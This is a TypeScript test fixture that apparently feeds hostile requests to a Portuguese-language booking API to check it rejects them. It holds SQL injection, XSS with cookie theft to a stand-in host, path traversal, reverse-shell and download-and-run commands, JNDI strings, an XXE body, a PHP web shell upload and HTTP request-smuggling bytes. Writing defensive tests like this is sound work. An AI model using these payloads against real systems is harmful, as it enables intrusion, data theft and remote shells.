/** A request that nobody means well by. */
export interface Attack {
  readonly what: string;
  readonly method?: string;
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

const inQuery = (what: string, ...payloads: string[]): Attack[] =>
  payloads.map((payload) => ({ what, path: `/v1/espacos?cidade=${encodeURIComponent(payload)}` }));
const inBody = (what: string, ...payloads: string[]): Attack[] =>
  payloads.map((payload) => ({
    what,
    method: 'POST',
    path: '/v1/usuarios',
    body: JSON.stringify({ nome: payload, email: 'ana@exemplo.com', senha: 'uma senha bem comprida' }),
  }));
const asHeader = (what: string, name: string, ...values: string[]): Attack[] =>
  values.map((value) => ({ what, path: '/v1/espacos', headers: { [name]: value } }));

export const attacks: readonly Attack[] = [
  ...inQuery(
    'SQL na consulta',
    "' OR '1'='1",
    "1' OR 1=1--",
    "' UNION SELECT senha FROM usuarios--",
    '1; DROP TABLE reservas--',
    "'; EXEC xp_cmdshell('dir')--",
    '1 AND SLEEP(5)',
    "1' AND pg_sleep(5)--",
    "' OR EXISTS(SELECT 1 FROM information_schema.tables)--",
    "admin'/**/OR/**/1=1#",
    "1' ORDER BY 10--",
    "x' AND extractvalue(1,concat(0x7e,version()))--",
    "' WAITFOR DELAY '0:0:5'--",
  ),
  ...inBody(
    'SQL em um JSON',
    "' OR '1'='1' --",
    "x' UNION ALL SELECT NULL,NULL,version()--",
    '1; SELECT pg_sleep(10)--',
    "' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--",
    "a'; INSERT INTO usuarios VALUES (1)--",
  ),
  ...inQuery(
    'script na consulta',
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    'javascript:alert(document.cookie)',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<body onload=alert(1)>',
    '"><script src=//mal.exemplo/x.js></script>',
  ),
  ...inBody(
    'script em um JSON',
    '<script>fetch("//mal.exemplo/"+document.cookie)</script>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">aqui</a>',
    '<svg/onload=alert(1)>',
    '<details open ontoggle=alert(1)>',
  ),
  ...inQuery(
    'arquivo de outro lugar',
    '../../../../etc/passwd',
    '..\\..\\..\\windows\\win.ini',
    '/etc/shadow',
    'file:///etc/passwd',
    '....//....//etc/passwd',
    '/proc/self/environ',
  ),
  { what: 'subida codificada', path: '/v1/%2e%2e/%2e%2e/etc/passwd' },
  { what: 'subida codificada duas vezes', path: '/fotos/%252e%252e%252fetc%252fpasswd' },
  { what: 'subida para fora da raiz', path: '/assets/../../etc/passwd' },
  { what: 'byte nulo', path: '/fotos/sala.svg%00.png' },
  { what: 'o que se esconde', path: '/.git/config' },
  { what: 'o que se esconde', path: '/.env' },
  ...inQuery(
    'comando na consulta',
    '; cat /etc/passwd',
    '| nc -e /bin/sh 10.0.0.1 4444',
    '`wget http://mal.exemplo/x.sh`',
    '$(curl http://mal.exemplo/x|sh)',
    '&& powershell -c whoami',
    '() { :;}; /bin/bash -c id',
    '${jndi:ldap://mal.exemplo/a}',
  ),
  ...inBody(
    'comando em um JSON',
    ';/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    '$(wget -qO- http://mal.exemplo/x|bash)',
    '| cat /etc/passwd',
    '${jndi:rmi://mal.exemplo/a}',
    'require("child_process").exec("id")',
  ),
  ...asHeader(
    'um programa que varre',
    'user-agent',
    'sqlmap/1.7',
    'Nikto/2.5.0',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine)',
    'masscan/1.3',
    'WPScan v3',
    'Acunetix Web Vulnerability Scanner',
    'dirbuster',
    'w3af.org',
    'ZmEu',
  ),
  ...asHeader('ataque num cabeçalho', 'user-agent', '() { :; }; echo vulneravel', '${jndi:ldap://mal.exemplo/a}'),
  ...asHeader('ataque num cabeçalho', 'referer', "https://x/?q=' UNION SELECT 1,2,3--", '<script>alert(1)</script>'),
  ...asHeader('ataque num cookie', 'cookie', "sessao=' OR 1=1--", 'sessao=<script>alert(1)</script>'),
  { what: 'método que não há', method: 'TRACE', path: '/v1/espacos' },
  { what: 'método que não há', method: 'PROPFIND', path: '/v1/espacos' },
  { what: 'método que não há', method: 'DEBUG', path: '/v1/espacos' },
  {
    what: 'tipo que não se lê',
    method: 'POST',
    path: '/v1/sessoes',
    headers: { 'content-type': 'text/xml' },
    body: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  },
  {
    what: 'formulário',
    method: 'POST',
    path: '/v1/sessoes',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: 'email=a%40b.c&senha=x',
  },
  {
    what: 'arquivo enviado',
    method: 'POST',
    path: '/v1/sessoes',
    headers: { 'content-type': 'multipart/form-data; boundary=x' },
    body: '--x\r\nContent-Disposition: form-data; name="a"; filename="a.php"\r\n\r\n<?php system($_GET[0]); ?>\r\n--x--\r\n',
  },
  { what: 'JSON que não é JSON', method: 'POST', path: '/v1/sessoes', body: '{"email": "ana@exemplo.com", "senha":' },
  { what: 'JSON fundo demais', method: 'POST', path: '/v1/sessoes', body: '['.repeat(500) + ']'.repeat(500) },
  {
    what: 'corpo grande demais',
    method: 'POST',
    path: '/v1/sessoes',
    body: JSON.stringify({ email: 'a'.repeat(300_000) }),
  },
  { what: 'endereço longo demais', path: `/v1/espacos?cidade=${'a'.repeat(9_000)}` },
  { what: 'cabeçalho grande demais', path: '/v1/espacos', headers: { 'x-grande': 'a'.repeat(9_000) } },
  {
    what: 'consulta com campos demais',
    path: `/v1/espacos?${Array.from({ length: 600 }, (_, at) => `a${at}=1`).join('&')}`,
  },
  { what: 'o que é de quem opera', path: '/metrics' },
  { what: 'o que é de quem opera', path: '/docs/json' },
  { what: 'o que é de quem opera', path: '/admin/health/ready' },
];

/** What no client library would send: bytes, as they go over the wire. */
export const smuggled: readonly (readonly [what: string, bytes: string])[] = [
  [
    'dois comprimentos',
    'POST /v1/sessoes HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 40\r\n\r\n{}',
  ],
  [
    'comprimento e pedaços',
    'POST /v1/sessoes HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG',
  ],
  [
    'pedaços com outro nome',
    'POST /v1/sessoes HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\n',
  ],
  [
    'pedaços duas vezes',
    'POST /v1/sessoes HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n',
  ],
  [
    'um tamanho de pedaço que não é número',
    'POST /v1/sessoes HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\n{}\r\n0\r\n\r\n',
  ],
  [
    'um comprimento negativo',
    'POST /v1/sessoes HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: -1\r\n\r\n',
  ],
  ['sem Host', 'GET /v1/espacos HTTP/1.1\r\n\r\n'],
  ['dois Hosts', 'GET /v1/espacos HTTP/1.1\r\nHost: localhost\r\nHost: mal.exemplo\r\n\r\n'],
  ['espaço antes dos dois pontos', 'GET /v1/espacos HTTP/1.1\r\nHost : localhost\r\n\r\n'],
  [
    'linha que continua',
    'GET /v1/espacos HTTP/1.1\r\nHost: localhost\r\nX-A: b\r\n Transfer-Encoding: chunked\r\nContent-Length: abc\r\n\r\n',
  ],
  ['outro protocolo', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nXX'],
  ['lixo', '\x00\x01\x02\x03 / HTTP/9.9\r\n\r\n'],
];
